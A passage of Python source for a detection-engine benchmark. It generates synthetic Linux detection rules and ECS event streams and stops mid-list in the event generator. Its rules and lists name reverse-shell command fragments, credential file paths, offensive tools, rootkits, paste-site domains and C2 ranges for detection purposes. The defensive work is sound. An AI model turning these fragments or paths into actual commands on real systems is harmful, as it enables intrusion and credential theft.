# ruff: noqa: S108, S311 - temp paths are data of the synthetic stream; random.Random is its seeded generator
"""The rule-engine benchmark behind ``guardctl bench engine``: our streaming engine against ``eql``.

One run generates (or loads) a rule set and a deterministic synthetic ECS event stream, then
measures, on the same events:

- **ours**: :class:`guard.policy.engine.Engine` with every rule loaded, fed in batches of 4096
  events then flushed; best of three runs with a fresh engine each (the median is reported too),
  construction (compile) timed separately;
- **eql**: the reference ``eql`` library's ``PythonEngine`` (PyPI ``eql``, a bench-only
  dependency imported only here) with the rules it can parse, on the same events converted to its
  ``Event`` type before timing. It streams until the stream ends or its time budget is spent,
  and is rated on the prefix it processed (rates are per event); our engine is timed on that
  prefix too.

The generated rules (:func:`generate_rules`) are realistic Linux detections in our ``[[rule]]``
format: about twenty single-event families (execution from temp directories, shells spawned by
web servers, credential and SSH key access, reverse shells to IP ranges, ``curl | sh``,
persistence files, defence evasion...) and eight sequence families (by ``process.entity_id`` or
``host.id``; with ``until``, per-step ``by``, ``runs=`` and missing steps), their literals varied by
an index. In each family one variant targets the attacks the stream contains; the others target
tools, paths and networks the stream never shows, so only a small fraction of rules ever match.

The stream (:func:`generate_events`) is nested ECS documents as Elasticsearch stores them:
process starts and ends with realistic executables, arguments and parents from per-role workloads
(web, database, CI, bastion, Kubernetes hosts), file events and network connections attributed to
live processes (so sequences by ``process.entity_id`` complete), with a long tail of unique
temporary files and some IPv6, and rare injected attack scenarios (about one event in a hundred).
"""

from __future__ import annotations

import gc
import heapq
import importlib
import math
import os
import random
import resource
import statistics
import tempfile
import time
import tomllib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import asdict, dataclass, field
from functools import partial
from pathlib import Path
from typing import Any, Final, Protocol

from guard.policy.loader import Rule, load_policy

__all__ = [
    "BATCH",
    "TARGETS",
    "BaselineResult",
    "eql_baseline",
    "generate_events",
    "generate_rules",
    "render_engine_benchmark",
    "run_engine_benchmark",
]

#: Events per ``Engine.process`` call.
BATCH: Final = 4096
#: What ``guardctl bench engine`` must reach on the 2-core reference machine.
TARGETS: Final[Mapping[str, float]] = {"events_per_s": 250_000, "ratio_vs_eql": 20}
#: eql run time after which the baseline stops (it is rated on the prefix it processed).
EQL_MAX_SECONDS: Final = 40.0
#: The shortest prefix the eql baseline is timed on, whatever the time.
EQL_SAMPLE_EVENTS: Final = 20_000
_EQL_CHUNK: Final = 1_000
_BASE_TS: Final = 1_735_689_600_000  # 2025-01-01T00:00:00Z, epoch milliseconds
_SEVERITIES: Final = ("low", "medium", "high", "critical")

Event = dict[str, Any]


# =========================================================================== pools

#: Tools and names the attack scenarios of the stream use (the "hot" rule variants target these).
_HOT_C2: Final = ("203.0.113.", "198.51.100.")  # TEST-NET-3 / TEST-NET-2: reverse shells, payloads
_HOT_MINER: Final = "kdevtmpfsi"
_HOT_DROP_DIR: Final = "/tmp/.X25-unix/.rsync/"

#: Attack tooling that never runs in the stream (the "cold" variants target these).
_COLD_TOOLS: Final = (
    "masscan", "zmap", "hydra", "john", "hashcat", "socat", "ncat", "chisel", "frpc", "gost",
    "ligolo-agent", "pspy64", "linpeas.sh", "lse.sh", "mimipenguin", "lazagne", "xmrig", "kinsing",
    "dbused", "sysrv", "kworkerds", "watchdogs", "tsunami", "ddgs", "minerd", "cpuminer", "xmr-stak",
    "t-rex", "proxychains4", "sliver-client", "merlin-agent", "pupy", "reptile_cmd", "bpfdoor",
    "rekoobe", "ebury", "gsocket", "gs-netcat", "earthworm", "iox", "revsocks", "nps", "spark-client",
    "vshell", "mettle", "msfvenom", "crackmapexec", "kerbrute", "responder", "bettercap",
)  # fmt: skip
_COLD_WEB: Final = (
    "tomcat9", "uwsgi", "caddy", "lighttpd", "puma", "unicorn", "traefik", "haproxy", "jetty",
    "wildfly", "glassfish", "apache-tomcat", "openresty", "hypercorn", "daphne", "passenger",
)  # fmt: skip
_RECON: Final = (
    "id", "whoami", "uname", "hostname", "ifconfig", "netstat", "ss", "arp", "route", "getent",
    "lsof", "crontab", "base64", "xxd", "nc", "ncat", "perl", "ruby", "lua", "php",
)  # fmt: skip
_COLD_DOMAINS: Final = (
    "pastebin.com/raw", "transfer.sh", "ngrok.io", "termbin.com", "0x0.st", "paste.ee", "ix.io",
    "bashupload.com", "temp.sh", "file.io", "gofile.io", "catbox.moe", "oshi.at", "dpaste.org",
    "hastebin.com", "rentry.co", "paste.c-net.org", "sprunge.us",
)  # fmt: skip
_COLD_CRED: Final = (
    "/etc/security/opasswd", "/root/.aws/credentials", "/root/.docker/config.json", "/root/.kube/config",
    "/var/lib/jenkins/secrets/master.key", "/etc/krb5.keytab", "/var/lib/sss/secrets/.secrets.mkey",
    "/root/.vault-token", "/root/.pgpass", "/root/.my.cnf", "/root/.git-credentials", "/root/.netrc",
    "/etc/gitlab/gitlab-secrets.json", "/etc/rancher/k3s/k3s.yaml", "/root/.config/gcloud/credentials.db",
    "/var/lib/rancher/k3s/server/token", "/etc/kubernetes/admin.conf",
)  # fmt: skip
_COLD_KEYS: Final = ("id_dsa", "identity", "id_ecdsa_sk", "id_ed25519_sk", "authorized_keys2", "id_rsa_old")
_COLD_PREFIXES: Final = (
    "/usr/share/fonts/", "/var/spool/mail/", "/var/cache/man/", "/boot/", "/lib/firmware/",
    "/var/lib/php/sessions/", "/run/lock/", "/var/crash/", "/etc/ssl/private/", "/usr/games/",
    "/var/mail/", "/var/backups/", "/usr/share/zoneinfo/", "/var/lib/dpkg/info/",
)  # fmt: skip
_COLD_NEEDLES: Final = (
    "mkfifo /tmp/", "nc -e /bin/", "import pty;pty.spawn", "socat exec:", "openssl s_client -quiet",
    "/inet/tcp/", "use Socket;", "ruby -rsocket", "fsockopen(", "require('socket')", "0<&196;exec",
    "xterm -display", "telnet -l root", "busybox nc", "history -c", "unset HISTFILE", "chattr -i /etc/",
    "echo 0 > /proc/sys/kernel/", "base64 -d | bash", "setenforce 0",
)  # fmt: skip
_COLD_CIDRS: Final = (
    "185.220.100.0/22", "185.220.101.0/24", "45.9.148.0/24", "193.142.146.0/24", "91.219.236.0/24",
    "5.188.206.0/24", "45.155.205.0/24", "194.26.29.0/24", "2a0b:f4c2::/32", "2a03:b0c0:3::/48",
    "89.248.165.0/24", "80.82.77.0/24", "141.98.10.0/24", "2001:67c:2660::/48",
)  # fmt: skip
_COLD_PORT_RANGES: Final = (
    (1337, 1338), (31337, 31337), (6666, 6669), (12345, 12346), (50050, 50051), (9001, 9001),
    (2333, 2334), (4782, 4783), (1604, 1604), (7443, 7444), (8808, 8808), (20000, 20001),
)  # fmt: skip
_COLD_PORT_SETS: Final = (
    (6667, 6697), (1080, 1081), (9050, 9150), (31337, 31338), (14444, 14433), (45700, 45560),
    (3357, 3358), (10128, 10343), (17777, 19999), (5566, 5567),
)  # fmt: skip
_COLD_SERVICES: Final = (
    "falcon-sensor", "elastic-agent", "osqueryd", "wazuh-agent", "sysdig", "falco", "ossec",
    "sentinelone", "cbagentd", "qualys-cloud-agent", "ir_agent", "aide", "tripwire", "clamav-daemon",
)  # fmt: skip
_COLD_PERSIST: Final = (
    "/etc/systemd/system/{x}.service", "/etc/init.d/{x}", "/etc/profile.d/{x}.sh", "/etc/ld.so.preload",
    "/etc/update-motd.d/99-{x}", "/etc/udev/rules.d/75-{x}.rules", "/etc/xdg/autostart/{x}.desktop",
    "/etc/apt/apt.conf.d/99{x}", "/etc/sudoers.d/{x}", "/usr/lib/systemd/system-generators/{x}",
    "/root/.config/autostart/{x}.desktop", "/etc/rc.local", "/etc/cron.hourly/{x}",
)  # fmt: skip
_COLD_HIDDEN: Final = (
    ".sysd", ".kthreadd", ".font-unix-", ".cache-update", ".ICE-lock", ".x11-", ".dbus-", ".journal-",
    ".mount-", ".udev-", ".apt-", ".rpc-", ".ssh-agent-", ".gvfs-",
)  # fmt: skip
_COLD_MODULES: Final = (
    "diamorphine", "reptile", "suterusu", "adore-ng", "kovid", "puszek", "nurupo", "rkduck", "enyelkm",
    "vlany", "bdvl", "beurk", "azazel", "kbeast", "ipsecs-kbeast", "lkm-hider",
)  # fmt: skip
_COLD_SOCKETS: Final = (
    "/run/containerd/containerd.sock", "/var/run/crio/crio.sock", "/proc/sys/kernel/core_pattern",
    "/sys/kernel/uevent_helper", "/proc/sysrq-trigger", "/sys/fs/cgroup/release_agent",
    "/run/podman/podman.sock", "/var/run/cri-dockerd.sock", "/proc/sys/kernel/modprobe",
    "/run/k3s/containerd/containerd.sock", "/dev/kmsg", "/proc/kcore", "/dev/mem",
)  # fmt: skip
_COLD_LIBS: Final = (
    "libprocesshider", "libc.so.5", "libpam_backdoor", "libsystem.so", "libns2", "libkeyutils.so.1.9",
    "libselinux.so.4", "libdl.so.3", "libcurl.so.7", "libhide", "libsocks", "libz.so.2",
)  # fmt: skip
_WEB_HOT: Final = ("nginx", "apache2", "httpd", "php-fpm8.2")
_SHELLS: Final = ("sh", "bash", "dash")


def _esc(text: str) -> str:
    return text.replace("\\", "\\\\").replace('"', '\\"')


def _q(*items: object) -> str:
    """Render an EQL list of literals: ("a", "b") or (1, 2)."""
    return "(" + ", ".join(f'"{_esc(i)}"' if isinstance(i, str) else str(i) for i in items) + ")"


def _pick(pool: Sequence[str], k: int, n: int = 1, step: int = 1) -> list[str]:
    return [pool[(k * n + j * step) % len(pool)] for j in range(n)]


# =========================================================================== rules

_Family = Callable[[int, random.Random], tuple[str, str, str]]  # (k, rng) -> (title, severity, query)


def _f_tmp_exec(k: int, rng: random.Random) -> tuple[str, str, str]:
    allow = _q("apt-key", "dpkg", "snap-confine", f"installer-{k}")
    if k == 0:
        return (
            "Execution from a world-writable directory",
            "high",
            'process where event.type == "start" and '
            'process.executable : ("/tmp/*", "/var/tmp/*", "/dev/shm/*") and '
            f'not process.executable : "/tmp/go-build*" and not process.name in {allow}',
        )
    tool = _COLD_TOOLS[(k * 3 + rng.randrange(3)) % len(_COLD_TOOLS)]
    return (
        f"{tool} executed from a temporary directory",
        "high",
        'process where event.type == "start" and '
        f'process.executable : ("/tmp/*/{tool}", "/var/tmp/{tool}*", "/dev/shm/{tool}*") and '
        f"not process.name in {allow}",
    )


def _f_webshell(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Shell spawned by a web server",
            "critical",
            f'process where event.type == "start" and process.parent.name in {_q(*_WEB_HOT)} and '
            f"process.name in {_q(*_SHELLS)}",
        )
    web = _COLD_WEB[k % len(_COLD_WEB)]
    children = [*_pick(_SHELLS, k, 1), *_pick(_RECON, k + rng.randrange(5), 3, 7)]
    return (
        f"Suspicious child of {web}",
        "high",
        f'process where event.type == "start" and process.parent.name == "{web}" and '
        f"process.name in {_q(*children)}",
    )


def _f_curl_pipe(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Download piped to a shell",
            "high",
            f'process where event.type == "start" and process.name in {_q(*_SHELLS)} and '
            'process.command_line like~ ("*curl *|*sh*", "*wget *|*sh*")',
        )
    host = _COLD_DOMAINS[(k + rng.randrange(4)) % len(_COLD_DOMAINS)]
    return (
        f"Script fetched from {host.split('/')[0]}",
        "medium",
        f'process where event.type == "start" and '
        f'process.command_line like~ ("*curl *{host}*", "*wget *{host}*", "*fetch *{host}*")',
    )


_CRED_ALLOW: Final = (
    "/usr/sbin/sshd", "/usr/bin/passwd", "/usr/sbin/unix_chkpwd", "/usr/bin/sudo", "/usr/bin/su",
    "/usr/sbin/chpasswd", "/usr/lib/systemd/systemd-logind", "/usr/sbin/cron",
)  # fmt: skip


def _f_cred(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Shadow password file read by an unexpected program",
            "high",
            'file where event.type == "access" and file.path in ("/etc/shadow", "/etc/gshadow") and '
            f"not process.executable in {_q(*_CRED_ALLOW)}",
        )
    path = _COLD_CRED[(k + rng.randrange(3)) % len(_COLD_CRED)]
    allowed = _pick(("vault", "kubectl", "docker", "aws", "psql", "mysql", "git", "gcloud"), k, 2, 3)
    return (
        f"Credential file {path} read",
        "high",
        f'file where event.type == "access" and file.path == "{path}" and '
        f'process.name != "{allowed[0]}" and process.name != "{allowed[1]}"',
    )


def _f_ssh_keys(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "SSH private key read by an unexpected program",
            "high",
            'file where event.type == "access" and file.path : "/home/*/.ssh/id_*" and '
            'not file.path : "*.pub" and '
            'not process.name in ("ssh", "ssh-agent", "ssh-add", "git", "scp", "sftp-server", "sshd")',
        )
    key = _COLD_KEYS[k % len(_COLD_KEYS)]
    readers = _pick(
        ("find", "tar", "zip", "base64", "xxd", "rsync", "cp", "curl", "python3"), k + rng.randrange(3), 2, 4
    )
    return (
        f"SSH key {key} collected",
        "medium",
        f'file where stringContains(file.path, "/.ssh/{key}") and process.name in {_q(*readers)}',
    )


def _f_webroot(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Interpreter started in a web root as the web user",
            "high",
            'process where event.type == "start" and '
            'process.name in ("sh", "bash", "dash", "python3", "perl") and '
            'startsWith(process.working_directory, "/var/www/") and user.name in~ ("WWW-DATA", "nginx")',
        )
    prefix = _COLD_PREFIXES[(k + rng.randrange(2)) % len(_COLD_PREFIXES)]
    return (
        f"Execution from {prefix}",
        "medium",
        f'process where event.type == "start" and startsWith(process.executable, "{prefix}") and '
        f'not process.parent.name in ("dpkg", "apt-get", "{_COLD_TOOLS[k]}")',
    )


def _f_masquerade(k: int, rng: random.Random) -> tuple[str, str, str]:
    tool = _HOT_MINER if k == 0 else _COLD_TOOLS[(k * 5 + rng.randrange(2)) % len(_COLD_TOOLS)]
    return (
        f"Known malware binary name {tool}",
        "critical",
        f'process where event.type == "start" and endsWith(process.executable, "/{tool}") and '
        'not startsWith(process.executable, "/usr/")',
    )


def _f_cmdline(k: int, rng: random.Random) -> tuple[str, str, str]:
    needle = "/dev/tcp/" if k == 0 else _COLD_NEEDLES[(k * 2 + rng.randrange(2)) % len(_COLD_NEEDLES)]
    return (
        f"Suspicious command line: {needle.strip()}",
        "high",
        f'process where event.type == "start" and stringContains(process.command_line, "{_esc(needle)}")',
    )


def _f_wildcard(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        pats: tuple[str, ...] = ("kdevtmpfs*", "kinsing*", "xmrig*")
    else:
        a, b = _pick(_COLD_TOOLS, k + rng.randrange(3), 2, 11)
        pats = (f"{a}*", f"*{b}")
    return (
        f"Miner or tool by name ({pats[0].strip('*')})",
        "high",
        f'process where event.type == "start" and wildcard(process.name, {_q(*pats)[1:-1]})',
    )


def _f_c2_ranges(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        cidrs: tuple[str, ...] = ("203.0.113.0/24", "2001:db8:dead::/48")
    else:
        cidrs = tuple(_pick(_COLD_CIDRS, k + rng.randrange(2), 2, 5))
    return (
        f"Connection to a known command-and-control range ({cidrs[0]})",
        "critical",
        f'network where event.type == "start" and cidrMatch(destination.ip, {_q(*cidrs)[1:-1]}) and '
        'not process.name in ("curl", "wget", "apt-get")',
    )


def _f_ports(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        lo, hi = 4000, 4999
        names: Sequence[str] = ("bash", "sh", "dash", "python3", "perl", "nc", "ncat", "socat")
    else:
        lo, hi = _COLD_PORT_RANGES[k % len(_COLD_PORT_RANGES)]
        names = ("bash", "sh", *_pick(_RECON, k + rng.randrange(3), 3, 5))
    return (
        f"Shell or interpreter connecting out on ports {lo}-{hi}",
        "high",
        f'network where event.type == "start" and process.name in {_q(*names)} and '
        f"destination.port >= {lo} and destination.port <= {hi} and "
        'not cidrMatch(destination.ip, "10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8")',
    )


def _f_tool(k: int, rng: random.Random) -> tuple[str, str, str]:
    tool = "nmap" if k == 0 else _COLD_TOOLS[(k * 7 + rng.randrange(2)) % len(_COLD_TOOLS)]
    return (
        f"Offensive tool {tool} executed",
        "medium",
        f'process where event.type == "start" and process.name : "{tool}"',
    )


def _f_chmod(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Temporary file made executable",
            "medium",
            'process where event.type == "start" and process.name == "chmod" and '
            'process.args in ("+x", "777", "755", "a+x", "u+x") and '
            'process.args : ("/tmp/*", "/dev/shm/*", "/var/tmp/*")',
        )
    name = ("chown", "chattr", "setfacl", "chgrp", "install", "setcap")[k % 6]
    flags = {"chown": ("root:root", "0:0"), "chattr": ("+i", "+a"), "setfacl": ("-m", "-R")}.get(
        name, ("-m", "4755", "cap_setuid+ep")
    )
    where = _COLD_PREFIXES[(k + rng.randrange(4)) % len(_COLD_PREFIXES)]
    return (
        f"{name} on files under {where}",
        "low",
        f'process where event.type == "start" and process.name == "{name}" and '
        f'process.args in {_q(*flags)} and process.args : "{where}*"',
    )


def _f_optional(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Interactive shell spawned by a shell of a web server",
            "high",
            'process where event.type == "start" and process.name in ("bash", "sh") and '
            'process.args == "-i" and ?process.parent.name in ("sh", "dash", "php-fpm8.2")',
        )
    lib = _COLD_LIBS[(k + rng.randrange(3)) % len(_COLD_LIBS)]
    return (
        f"Library preloaded through the environment ({lib})",
        "high",
        f'process where event.type == "start" and ?process.env_vars : ("LD_PRELOAD=*{lib}*", '
        f'"LD_LIBRARY_PATH=/dev/shm*") and not ?process.parent.name == "{_COLD_TOOLS[k]}"',
    )


def _f_evasion(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Audit or firewall disabled",
            "high",
            'process where event.type == "start" and ('
            '(process.name == "systemctl" and process.args in ("stop", "disable", "mask") and '
            'process.args : "auditd*") or '
            '(process.name == "iptables" and process.args in ("-F", "--flush")) or '
            '(process.name == "setenforce" and process.args == "0"))',
        )
    svc = _COLD_SERVICES[(k + rng.randrange(3)) % len(_COLD_SERVICES)]
    return (
        f"Security agent {svc} stopped",
        "high",
        'process where event.type == "start" and ('
        '(process.name == "systemctl" and process.args in ("stop", "disable", "mask") and '
        f'process.args : "{svc}*") or '
        f'(process.name == "service" and process.args == "{svc}") or '
        f'(process.name in ("pkill", "killall") and process.args : "*{svc}*"))',
    )


def _f_persist(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Cron job created",
            "medium",
            'file where event.type == "creation" and '
            'file.path like ("/etc/cron.d/*", "/etc/cron.daily/*", "/var/spool/cron/crontabs/*") and '
            'not process.executable like ("/usr/bin/dpkg", "/usr/bin/crontab", "/usr/bin/apt*")',
        )
    name = _COLD_TOOLS[(k * 3 + 1) % len(_COLD_TOOLS)]
    a, b = _pick(_COLD_PERSIST, k + rng.randrange(3), 2, 5)
    return (
        f"Persistence file for {name}",
        "medium",
        f'file where event.type in ("creation", "change") and '
        f"file.path like {_q(a.format(x=name), b.format(x='*' + name + '*'))}",
    )


def _f_hidden(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Execution from a hidden directory",
            "medium",
            'process where event.type == "start" and process.executable : "*/.*/*" and '
            'not process.executable : ("/home/*/.local/*", "/home/*/.cargo/*", "/home/*/.nvm/*", '
            '"/root/.local/*", "/home/*/.vscode-server/*")',
        )
    hidden = _COLD_HIDDEN[(k + rng.randrange(3)) % len(_COLD_HIDDEN)]
    return (
        f"Execution from a {hidden}* directory",
        "medium",
        f'process where event.type == "start" and process.executable : ("*/{hidden}*/*", "/{hidden}*")',
    )


def _f_module(k: int, rng: random.Random) -> tuple[str, str, str]:
    mod = _COLD_MODULES[(k + rng.randrange(2)) % len(_COLD_MODULES)]
    return (
        f"Rootkit kernel module {mod} loaded",
        "critical",
        f'process where event.type == "start" and process.name in ("insmod", "modprobe", "kmod") and '
        f'process.args : "*{mod}*" and not process.parent.name == "systemd-modules-load"',
    )


def _f_miner_ports(k: int, rng: random.Random) -> tuple[str, str, str]:
    ports: tuple[int, ...] = (
        (3333, 5555, 7777, 14444) if k == 0 else _COLD_PORT_SETS[k % len(_COLD_PORT_SETS)]
    )
    extra = rng.randrange(20000, 29999) if k else 45700
    return (
        f"Connection to a mining pool or C2 port ({ports[0]})",
        "high",
        f'network where event.type == "start" and destination.port in {_q(*ports, extra)} and '
        'not process.name in ("java", "node", "postgres")',
    )


def _f_sockets(k: int, rng: random.Random) -> tuple[str, str, str]:
    path = "/var/run/docker.sock" if k == 0 else _COLD_SOCKETS[(k + rng.randrange(2)) % len(_COLD_SOCKETS)]
    return (
        f"Container escape surface {path} opened",
        "high",
        f'file where event.type == "access" and file.path == "{path}" and '
        'not process.name in ("dockerd", "containerd", "docker", "kubelet", "systemd")',
    )


_SINGLE: Final[tuple[tuple[str, _Family], ...]] = (
    ("tmp-exec", _f_tmp_exec),
    ("webshell", _f_webshell),
    ("pipe-to-shell", _f_curl_pipe),
    ("cred-file", _f_cred),
    ("ssh-key", _f_ssh_keys),
    ("webroot", _f_webroot),
    ("malware-name", _f_masquerade),
    ("cmdline", _f_cmdline),
    ("miner-name", _f_wildcard),
    ("c2-range", _f_c2_ranges),
    ("odd-port", _f_ports),
    ("tool", _f_tool),
    ("make-exec", _f_chmod),
    ("preload", _f_optional),
    ("evasion", _f_evasion),
    ("persistence", _f_persist),
    ("hidden-exec", _f_hidden),
    ("rootkit", _f_module),
    ("pool-port", _f_miner_ports),
    ("escape", _f_sockets),
)


def _s_reverse_shell(k: int, rng: random.Random) -> tuple[str, str, str]:
    cidr = "203.0.113.0/24" if k == 0 else _COLD_CIDRS[(k + rng.randrange(3)) % len(_COLD_CIDRS)]
    return (
        f"Reverse shell: interactive shell connecting to {cidr}",
        "critical",
        "sequence by process.entity_id with maxspan=30s\n"
        '  [process where event.type == "start" and process.name in ("bash", "sh", "dash") and '
        'process.args == "-i"]\n'
        f'  [network where event.type == "start" and cidrMatch(destination.ip, "{cidr}")]',
    )


def _s_dropper(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        where: tuple[str, ...] = ("/tmp/*", "/dev/shm/*", "/var/tmp/*")
        then = 'not process.executable : "/tmp/go-build*"'
    else:
        where = (f"/tmp/*{_COLD_TOOLS[k]}*", f"/dev/shm/*{_COLD_TOOLS[k + 9]}*")
        then = f"process.parent.name in {_q(*_pick(_RECON, k + rng.randrange(3), 2, 3), 'sh')}"
    return (
        f"File dropped in a temporary directory then executed ({where[0]})",
        "high",
        "sequence by host.id with maxspan=1m\n"
        f'  [file where event.type == "creation" and file.path : {_q(*where)}] by file.path\n'
        f'  [process where event.type == "start" and {then}] by process.executable',
    )


def _s_until(k: int, rng: random.Random) -> tuple[str, str, str]:
    port = 4444 if k == 0 else _COLD_PORT_RANGES[k % len(_COLD_PORT_RANGES)][0] + rng.randrange(2)
    shells = _SHELLS if k % 2 == 0 else ("bash", "sh", "python3", "perl")
    return (
        f"Shell connecting to port {port} before it exits",
        "high",
        "sequence by process.entity_id with maxspan=5m\n"
        f'  [process where event.type == "start" and process.name in {_q(*shells)}]\n'
        f'  [network where event.type == "start" and destination.port == {port}]\n'
        '  until [process where event.type == "end"]',
    )


def _s_runs(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        return (
            "Password files read then a connection out",
            "high",
            "sequence by process.entity_id with maxspan=30s\n"
            '  [file where event.type == "access" and file.path in ("/etc/passwd", "/etc/shadow") and '
            'not process.name in ("sshd", "sudo", "su", "login", "cron", "unix_chkpwd", "systemd-logind")] '
            "with runs=2\n"
            '  [network where event.type == "start" and '
            'not cidrMatch(destination.ip, "10.0.0.0/8", "127.0.0.0/8")]',
        )
    tool = _COLD_TOOLS[(k * 4 + rng.randrange(2)) % len(_COLD_TOOLS)]
    return (
        f"Repeated connections by {tool}",
        "medium",
        "sequence by host.id with maxspan=10s\n"
        f'  [network where event.type == "start" and process.name : "{tool}"] with runs=3',
    )


def _s_missing(k: int, rng: random.Random) -> tuple[str, str, str]:
    names = ("curl", "wget") if k == 0 else tuple(_pick(_COLD_TOOLS, k + rng.randrange(3), 2, 13))
    return (
        f"Connection to a literal address without a DNS lookup ({names[0]})",
        "medium",
        "sequence with maxspan=30s\n"
        f'  [process where event.type == "start" and process.name in {_q(*names)}] by process.entity_id\n'
        "  ![network where destination.port == 53] by process.entity_id\n"
        '  [network where event.type == "start" and destination.port in (80, 443, 8080)]'
        " by process.entity_id",
    )


def _s_recon(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        parents: Sequence[str] = ("php-fpm8.2", "nginx", "apache2")
        tools: Sequence[str] = ("id", "whoami", "uname", "hostname")
    else:
        parents = (_COLD_WEB[k % len(_COLD_WEB)],)
        tools = _pick(_RECON, k + rng.randrange(4), 3, 5)
    return (
        f"Web shell reconnaissance ({parents[0]})",
        "high",
        "sequence by host.id with maxspan=1m\n"
        f'  [process where event.type == "start" and process.parent.name in {_q(*parents)} and '
        'process.name in ("sh", "bash", "dash")] by process.entity_id\n'
        f'  [process where event.type == "start" and process.name in {_q(*tools)}]'
        " by process.parent.entity_id",
    )


def _s_exfil(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        first = 'file.path : "/home/*/.ssh/id_*" and not process.name in ("ssh", "git", "scp", "ssh-add")'
    else:
        first = f'file.path == "{_COLD_CRED[(k + rng.randrange(5)) % len(_COLD_CRED)]}"'
    return (
        "Secret read then sent out",
        "critical",
        "sequence by process.entity_id with maxspan=1m\n"
        f'  [file where event.type == "access" and {first}]\n'
        '  [network where event.type == "start" and '
        'not cidrMatch(destination.ip, "10.0.0.0/8", "127.0.0.0/8", "::1/128")]',
    )


def _s_persist(k: int, rng: random.Random) -> tuple[str, str, str]:
    if k == 0:
        paths: Sequence[str] = ("/etc/cron.d/*", "/etc/systemd/system/*.service")
        names: Sequence[str] = ("curl", "wget")
    else:
        name = _COLD_TOOLS[(k * 6 + 2) % len(_COLD_TOOLS)]
        paths = [p.format(x="*" + name + "*") for p in _pick(_COLD_PERSIST, k + rng.randrange(3), 2, 4)]
        names = ("curl", "wget", name)
    return (
        f"Download followed by a persistence file ({paths[0]})",
        "high",
        "sequence by host.id with maxspan=5m\n"
        f'  [process where event.type == "start" and process.name in {_q(*names)}]\n'
        f'  [file where event.type in ("creation", "change") and file.path like {_q(*paths)}]\n'
        '  until [process where event.type == "start" and process.name in ("reboot", "shutdown")]',
    )


_SEQUENCES: Final[tuple[tuple[str, _Family], ...]] = (
    ("reverse-shell", _s_reverse_shell),
    ("drop-exec", _s_dropper),
    ("shell-port", _s_until),
    ("passwd-exfil", _s_runs),
    ("no-dns", _s_missing),
    ("webshell-recon", _s_recon),
    ("secret-exfil", _s_exfil),
    ("download-persist", _s_persist),
)


def _exclude_lab_host(query: str, k: int) -> str:
    clause = f' and host.name != "lab-{k:03d}"'
    if query.startswith("sequence"):
        at = query.index("]")  # the end of the first step (no literal holds a bracket)
        return query[:at] + clause + query[at:]
    return query + clause


def generate_rules(n_single: int = 260, n_sequences: int = 60, seed: int = 7) -> str:
    """Return policy TOML (``[[rule]]`` tables, action alert) of ``n_single + n_sequences`` distinct rules.

    Families take turns; rule ``i`` of a family is its variant ``i``. Variant 0 of most families
    targets the attacks :func:`generate_events` injects; the rest target what the stream never shows.
    """
    rng = random.Random(seed)
    out: list[str] = []
    seen: set[str] = set()
    plan = [(_SINGLE, n_single), (_SEQUENCES, n_sequences)]
    for families, count in plan:
        for i in range(count):
            slug, family = families[i % len(families)]
            k = i // len(families)
            title, severity, query = family(k, rng)
            if query in seen:  # the seed drew an earlier variant's literals: exclude a lab host
                query = _exclude_lab_host(query, k)
            if query in seen:  # pragma: no cover - a bug in a family
                raise AssertionError(f"generate_rules: duplicate query for {slug} variant {k}")
            seen.add(query)
            level = (_SEVERITIES.index(severity) - (1 if k % 5 == 4 else 0)) % len(_SEVERITIES)
            out.append(
                "[[rule]]\n"
                f'id = "bench-{slug}-{k:03d}"\n'
                f'name = "{_esc(title)}"\n'
                f'severity = "{_SEVERITIES[level]}"\n'
                'action = "alert"\n'
                f"query = '''\n{query}\n'''\n"
            )
    return "# generated by guard.bench.engine.generate_rules\n\n" + "\n".join(out)


# =========================================================================== events

_USR_BIN: Final = tuple(dict.fromkeys((
    "ls", "cat", "grep", "sed", "awk", "find", "xargs", "sort", "uniq", "head", "tail", "wc", "cut",
    "tr", "tee", "date", "sleep", "env", "id", "whoami", "uname", "hostname", "ps", "top", "free", "df",
    "du", "mount", "stat", "readlink", "dirname", "basename", "mktemp", "cp", "mv", "rm", "mkdir",
    "rmdir", "ln", "chmod", "chown", "touch", "tar", "gzip", "gunzip", "xz", "zstd", "bzip2", "unzip",
    "zip", "curl", "wget", "ssh", "scp", "rsync", "git", "vim", "nano", "less", "diff", "patch", "make",
    "gcc", "g++", "cc", "ld", "as", "cpp", "python3", "python3.11", "pip3", "perl", "ruby", "node",
    "npm", "npx", "java", "go", "cargo", "rustc", "docker", "kubectl", "helm", "jq", "yq", "openssl",
    "gpg", "systemctl", "journalctl", "loginctl", "timedatectl", "hostnamectl", "dpkg", "apt-get",
    "apt", "apt-cache", "dpkg-query", "lsb_release", "which", "file", "strings", "objdump", "nm",
    "strace", "ltrace", "gdb", "lsof", "ss", "ip", "ping", "dig", "nslookup", "host", "netstat", "sudo",
    "su", "passwd", "crontab", "logger", "flock", "timeout", "nice", "ionice", "nohup", "watch", "tmux",
    "screen", "htop", "iotop", "sar", "vmstat", "iostat", "uptime", "w", "who", "last", "groups",
    "getent", "base64", "sha256sum", "md5sum", "cksum", "bc", "expr", "seq", "printf", "echo", "tput",
    "stty", "clear", "locale", "iconv", "run-parts", "snap", "pkexec", "lsattr", "getfacl", "getcap",
    "lsmod", "dmesg", "bash", "sh", "dash", "zsh", "psql", "pg_dump", "redis-cli", "mysql", "terraform",
